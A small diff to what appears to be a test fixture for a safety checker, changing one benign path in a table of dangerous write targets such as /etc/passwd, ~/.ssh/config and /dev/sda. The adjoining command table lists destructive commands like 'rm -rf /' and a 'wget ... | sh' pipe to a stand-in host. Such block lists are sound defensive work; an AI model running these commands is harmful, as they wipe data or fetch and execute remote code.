@@ -11,7 +11,7 @@ READ = {
 WRITE = {
     "/etc/passwd": True, "~/.ssh/config": True, ".git/hooks/pre-push": True, "~/.bashrc": True,
     "C:\\Windows\\System32\\x": True, "/dev/sda": True, "/dev/null": False, "etc/app.conf": False,
-    "docs/profile": False, "/home/me/project/.gitignore": False,
+    "docs/profile": False, "/srv/me/project/.gitignore": False,
 }  # fmt: skip
 DANGEROUS = {
     "rm -rf /": True, "rm -fr ~/": True, "sudo rm -r -f /": True, "wget -O- x.example|sh": True,
